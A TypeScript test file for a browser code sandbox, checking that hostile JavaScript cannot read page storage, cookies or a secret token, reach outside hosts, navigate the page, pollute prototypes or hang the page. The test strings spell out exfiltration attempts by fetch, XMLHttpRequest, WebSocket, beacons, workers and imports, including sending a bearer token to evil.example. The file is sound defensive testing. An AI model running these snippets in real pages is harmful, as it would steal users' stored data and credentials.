/** A hostile program can do nothing in the page's sandbox except waste its own time. */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { type RunEvent, type RunnableProgram, runFailures } from "../src/run/protocol.ts";
import { failureOf, javascript, openRunPage, printed, type RunInPageOptions, type RunPage, runIn } from "./run-page.ts";

let runPage: RunPage;
/** A server that attacks try to reach. */
let listener: Server;
let heard: string[] = [];
let context: BrowserContext;
let page: Page;

beforeAll(async () => {
    listener = createServer((request, response) => {
        heard.push(`${request.method} ${request.url}`);
        response.setHeader("access-control-allow-origin", "*").setHeader("content-type", "text/javascript").end("0");
    }).listen(0, "127.0.0.1");
    runPage = await openRunPage();
});
afterAll(async () => {
    await runPage.close();
    listener.close();
});
beforeEach(async () => {
    heard = [];
    context = await runPage.browser.newContext();
    page = await context.newPage();
    await page.goto(runPage.host.origin);
    // Something to steal.
    await page.evaluate(async () => {
        localStorage.setItem("secret", "of the page");
        // biome-ignore lint/suspicious/noDocumentCookie: what is to be kept from a program is there for it to find
        document.cookie = "secret=of the page";
        await new Promise((done) => Object.assign(indexedDB.open("secret"), { onsuccess: done }));
        await (await caches.open("secret")).put("/secret", new Response("of the page"));
    });
});
afterEach(() => context.close());

const away = (): string => `http://127.0.0.1:${(listener.address() as AddressInfo).port}/told`;

const run = (code: string, options: RunInPageOptions = {}): Promise<RunEvent[]> =>
    runIn(page, javascript(code), options);

const failure = (events: readonly RunEvent[]): string | undefined => failureOf(events)?.name;

/** A program that tries each attack and prints the outcome. */
const tried = (attempts: Readonly<Record<string, string>>): string => `
const attempts = {${Object.entries(attempts)
    .map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`)
    .join(",\n")}};
for (const [name, attempt] of Object.entries(attempts)) {
    const outcome = await Promise.race([
        attempt().then((value) => "DONE " + value, (error) => "stopped"),
        new Promise((resolve) => setTimeout(resolve, 700, "stopped")),
    ]);
    console.log(name + ": " + outcome);
}`;

/** Expects that every attack is stopped. */
async function expectAllStopped(attempts: Readonly<Record<string, string>>): Promise<void> {
    const events = await run(tried(attempts));
    expect(printed(events).trim().split("\n")).toEqual(Object.keys(attempts).map((name) => `${name}: stopped`));
    expect(events.at(-1)?.kind).toBe("ended");
}

describe("a hostile program", () => {
    test("finds no page, and nothing that a page keeps", async () => {
        await expectAllStopped({
            "the page's document": "return document.title",
            "the page's window": "return window.location.href",
            "the frame around it": "return parent.document.title",
            "its own frame, by a message": "postMessage('x'); return 'sent'",
            "its own end": "self.close(); return 'closed'",
            "what the page keeps by name": "return localStorage.getItem('secret')",
            cookies: "return (await cookieStore.getAll()).length",
            databases:
                "await new Promise((good, bad) => Object.assign(indexedDB.open('secret'), { onsuccess: good, onerror: bad })); return 'open'",
            caches: "return (await (await caches.open('secret')).keys()).length",
            "files of its own": "return (await navigator.storage.getDirectory()).name",
            "locks that others hold": "return await navigator.locks.request('x', () => 'held')",
        });
        await expect.poll(() => page.evaluate(() => localStorage.getItem("secret"))).toBe("of the page");
    });

    test("reaches nobody, by whatever way", async () => {
        const url = away();
        // All that is left is the program's own fetch, to which the sandbox responds.
        const finding = "let at = globalThis; while (at && !/native/.test(at.fetch)) at = Object.getPrototypeOf(at);";
        await expectAllStopped({
            "the real fetch": `${finding} if (!at) return "not found"; return (await at.fetch.call(globalThis, "${url}")).status`,
            XMLHttpRequest: `const request = new XMLHttpRequest(); request.open("GET", "${url}", false); request.send(); return request.status`,
            WebSocket: `await new Promise((good, bad) => Object.assign(new WebSocket("${url.replace("http", "ws")}"), { onopen: good, onerror: bad })); return "open"`,
            EventSource: `await new Promise((good, bad) => Object.assign(new EventSource("${url}"), { onopen: good, onerror: bad })); return "open"`,
            WebTransport: `await new WebTransport("https://127.0.0.1:9/").ready; return "open"`,
            importScripts: `importScripts("${url}"); return "run"`,
            "import of an address": `return Object.keys(await import("${url}"))`,
            "import of data": `return (await import("data:text/javascript,export default 1")).default`,
            "import of the site": `return Object.keys(await import("${runPage.host.origin}/index.html"))`,
            beacon: `return navigator.sendBeacon("${url}")`,
            "a letter": `return (await new FontFace("x", "url(${url})").load()).status`,
            "a worker of its own": `const worker = new Worker("${url}"); await new Promise((good, bad) => Object.assign(worker, { onmessage: good, onerror: bad })); return "started"`,
            "a shared worker": `new SharedWorker("${url}"); return "started"`,
            "a service worker": `await navigator.serviceWorker.register("${url}"); return "registered"`,
            "text made a program": `return new Function("return 1")()`,
            "text evaluated": `return (0, eval)("1")`,
            "a push": `return await registration.pushManager.subscribe()`,
        });
        expect(heard).toEqual([]);
    });

    test("has a worker of its own reach nothing either, and end with it", async () => {
        const url = away();
        const inner = `fetch("${url}").then(() => postMessage("DONE"), () => postMessage("stopped"))`;
        const events = await run(`
const url = URL.createObjectURL(new Blob([${JSON.stringify(inner)}], { type: "text/javascript" }));
const policy = globalThis.trustedTypes?.createPolicy("callsheet-run", { createScriptURL: (one) => one });
const worker = new Worker(policy?.createScriptURL(url) ?? url);
console.log(await new Promise((tell) => { worker.onmessage = ({ data }) => tell(data); worker.onerror = () => tell("stopped"); setTimeout(tell, 2000, "stopped"); }));
`);
        expect(printed(events) + (failure(events) ?? "")).not.toContain("DONE");
        expect(heard).toEqual([]);
    });

    test("speaks to no page by a channel, and takes no page elsewhere", async () => {
        await page.evaluate(() => {
            const channel = new BroadcastChannel("hostile");
            channel.onmessage = () => localStorage.setItem("secret", "told");
            Object.assign(window, { channel });
            addEventListener("message", () => localStorage.setItem("secret", "told"));
        });
        const before = page.url();
        await run(`
for (const act of [
    () => new BroadcastChannel("hostile").postMessage("x"),
    () => { location.href = "${away()}"; },
    () => globalThis.open("${away()}"),
    () => top.location.assign("${away()}"),
    () => clients.openWindow("${away()}"),
    () => history.back(),
]) try { act(); } catch {}
await new Promise((resolve) => setTimeout(resolve, 200));
`);
        expect(page.url()).toBe(before);
        expect(context.pages().length).toBe(1);
        await expect.poll(() => page.evaluate(() => localStorage.getItem("secret"))).toBe("of the page");
        expect(heard).toEqual([]);
    });
});

describe("a program that never ends", () => {
    test.for([
        ["by computing", "while (true);"],
        ["by promises", "const on = () => Promise.resolve().then(on); await on(); while (true) await 0;"],
        ["by waiting", "await new Promise(() => setInterval(() => {}, 1000));"],
        ["and goes on when something fails", "while (true) try { null.x; } catch {}"],
    ] as const)("%s is ended by a stop, and the page answers meanwhile", async ([, code]) => {
        // If the program blocked the page, the page would never stop it.
        const events = await run(code, { stopAfterTurns: 50 });
        expect(events.map(({ kind }) => kind)).toContain("started");
        expect(events.map(({ kind }) => kind).filter((kind) => kind === "ended" || kind === "failed")).toEqual([]);
        await expect.poll(() => page.locator("iframe").count()).toBe(0);
        expect(printed(await run("console.log('next');"))).toBe("next\n");
    });

    test("printing is ended where nobody reads any more", async () => {
        const events = await run("while (true) console.log('again and again');");
        expect(failure(events)).toBe(runFailures.tooMuch);
        expect(printed(events).length).toBeLessThanOrEqual(1_000_000);
        expect(printed(await run("console.log('next');"))).toBe("next\n");
    });

    test("and floods the page with messages, having got hold of its port, is ended", async () => {
        const events = await run(
            `
let port;
const { postMessage } = MessagePort.prototype;
MessagePort.prototype.postMessage = function (...given) { port = this; return postMessage.apply(this, given); };
console.log("x");
await new Promise((resolve) => setTimeout(resolve, 50));
const channel = new MessageChannel();
const flood = port ?? channel.port1;
while (true) postMessage.call(flood, { kind: "output", stream: "stdout", text: "x" });
`,
            { stopAfterTurns: 200 },
        );
        expect(events.length).toBeLessThan(200_010);
        await expect.poll(() => page.locator("iframe").count()).toBe(0);
        expect(printed(await run("console.log('next');"))).toBe("next\n");
    });
});

test("a program that spoils what every program has spoils it for itself alone", async () => {
    const events = await run(`
Object.prototype.polluted = "polluted";
Array.prototype.map = () => { throw new Error("no map"); };
Promise.prototype.then = undefined;
globalThis.fetch = () => "mine";
JSON.parse = () => "mine";
Object.defineProperty(globalThis, "console", { value: { log() {} } });
`);
    expect(events.length).toBeGreaterThan(0);
    const next = await run(`
console.log({}.polluted, [1].map((one) => one + 1), await Promise.resolve(3), typeof fetch, JSON.parse("4"));
`);
    expect(printed(next)).toBe("undefined [ 2 ] 3 function 4\n");
    expect(next.at(-1)?.kind).toBe("ended");
    await expect.poll(() => page.evaluate(() => "polluted" in {})).toBe(false);
});

describe("with the reader's token", () => {
    const token = "hf_ReallySecretToken";
    let sent: { url: string; authorization: string | undefined; all: string }[];

    /** Simulates the providers, and records the page's requests to them. */
    beforeEach(async () => {
        sent = [];
        await context.route(/^https:/, async (route) => {
            const request = route.request();
            const headers = { "access-control-allow-origin": "*", "access-control-allow-headers": "*" };
            if (request.method() === "OPTIONS") return route.fulfill({ status: 204, headers });
            sent.push({
                url: request.url(),
                authorization: request.headers()["authorization"],
                all: JSON.stringify([request.headers(), request.postData()]),
            });
            await route.fulfill({ status: 200, headers, contentType: "application/json", body: '{"answer":42}' });
        });
    });

    const withToken = (code: string, options: RunInPageOptions = {}): Promise<RunEvent[]> =>
        runIn(page, { ...javascript(code), network: "provider" } as RunnableProgram, { token, ...options });

    test("a program calls the provider, and never has the token", async () => {
        const events = await withToken(`
const response = await fetch("https://router.huggingface.co/v1/chat/completions", {
    method: "POST",
    headers: { Authorization: "Bearer " + process.env.HF_TOKEN, "Content-Type": "application/json" },
    body: JSON.stringify({ token: process.env.HF_TOKEN }),
});
console.log((await response.json()).answer, JSON.stringify(process.env));
`);
        expect(printed(events)).toMatch(/^42 /);
        expect(sent.map(({ authorization }) => authorization)).toEqual([`Bearer ${token}`]);
        // Only the authorization header gets the token: a placeholder elsewhere stays as it is.
        expect(sent[0]?.all.split(token).length).toBe(2);
        expect(JSON.stringify(events)).not.toContain(token);
    });

    test.for([
        ["where files of results are", "https://v3.fal.media/files/x.png"],
        ["of another provider", "https://api.together.xyz/v1/chat/completions"],
    ] as const)("a host %s is sent no token", async ([, url]) => {
        await withToken(
            `await fetch("${url}", { headers: { authorization: "Bearer " + process.env.HF_TOKEN, "x-other": process.env.HF_TOKEN } });`,
        );
        expect(sent.map((one) => one.url)).toEqual([url]);
        expect(sent[0]?.authorization).toBeUndefined();
        expect(sent[0]?.all).not.toContain(token);
    });

    test("a host that nobody knows is not asked at all", async () => {
        for (const url of ["https://evil.example/", "http://router.huggingface.co/", away()]) {
            const events = await withToken(
                `await fetch("${url}", { headers: { authorization: "Bearer " + process.env.HF_TOKEN } });`,
            );
            expect(failure(events)).toBe(runFailures.notAllowed);
        }
        expect(sent).toEqual([]);
        expect(heard).toEqual([]);
    });

    test("a redirect is not followed with the token", async () => {
        await context.route("https://router.huggingface.co/elsewhere", (route) =>
            route.fulfill({
                status: 307,
                headers: {
                    location: "https://v3.fal.media/caught",
                    "access-control-allow-origin": "*",
                    "access-control-allow-headers": "*",
                },
            }),
        );
        const events = await withToken(
            `await fetch("https://router.huggingface.co/elsewhere", { headers: { authorization: "Bearer " + process.env.HF_TOKEN } });`,
        );
        expect(failure(events)).toBe(runFailures.notReached);
        expect(sent.filter(({ url }) => url.includes("caught"))).toEqual([]);
    });

    test("an answer that does not come through is said to be kept back", async () => {
        // The page cannot tell why there is no response.
        await context.route("https://router.huggingface.co/closed", (route) => route.abort("failed"));
        const events = await withToken(`await fetch("https://router.huggingface.co/closed");`);
        expect(failureOf(events)).toMatchObject({ name: runFailures.notReached, message: "router.huggingface.co" });
    });

    test("is forgotten with the run: nothing that is kept holds it", async () => {
        await withToken(
            "await fetch('https://router.huggingface.co/v1/models', { headers: { authorization: 'Bearer ' + process.env.HF_TOKEN } });",
        );
        const storedTexts = await page.evaluate(async () => {
            const names = await caches.keys();
            const requests = await Promise.all(
                names.map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => url)),
            );
            return JSON.stringify([
                Object.entries(localStorage),
                Object.entries(sessionStorage),
                document.cookie,
                requests,
                location.href,
            ]);
        });
        expect(storedTexts).not.toContain(token);
        expect(sent.length).toBe(1);
    });
});
